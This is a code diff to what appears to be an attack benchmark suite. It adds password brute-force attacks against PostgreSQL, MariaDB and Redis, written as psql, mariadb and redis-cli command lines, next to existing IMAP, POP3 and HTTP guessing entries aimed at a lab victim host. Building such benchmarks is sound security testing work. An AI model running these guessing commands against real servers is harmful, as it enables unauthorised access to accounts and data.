@@ -4,6 +4,7 @@ from __future__ import annotations
 from collections.abc import Callable
 
 from benchmarks.attacks.attack import Attack
+from benchmarks.attacks.databases import mariadb, postgres, redis
 from benchmarks.attacks.place import ATTACKER, VICTIM, Place
 from benchmarks.attacks.servers import dovecot, nginx, smtp, sshd, vsftpd
 
@@ -37,4 +38,9 @@ ATTACKS = (
     Attack("guess-imap", ("brute_force",), ATTACKER, VICTIM, 90, guess(dovecot, curl(f"imap://{VICTIM}/INBOX")), "curl, dovecot"),
     Attack("guess-pop3", ("brute_force",), ATTACKER, VICTIM, 90, guess(dovecot, curl(f"pop3://{VICTIM}/")), "curl, dovecot"),
     Attack("guess-http", ("brute_force",), ATTACKER, VICTIM, 90, guess(nginx, curl(f"http://{VICTIM}/private/")), "curl, nginx"),
+    Attack("guess-postgres", ("brute_force",), ATTACKER, VICTIM, 90,
+           guess(postgres, f"psql \"host={VICTIM} user=alice password=guess$0 dbname=postgres sslmode=disable\" -c \"SELECT 1\"; sleep 0.3"), "psql"),
+    Attack("guess-mariadb", ("brute_force",), ATTACKER, VICTIM, 90,
+           guess(mariadb, f"mariadb --no-defaults --skip-ssl -h {VICTIM} -u alice -pguess$0 -e \"SELECT 1\"; sleep 0.3"), "mariadb"),
+    Attack("guess-redis", ("brute_force",), ATTACKER, VICTIM, 90, guess(redis, f"redis-cli -h {VICTIM} AUTH guess$0; sleep 0.3"), "redis-cli"),
 )
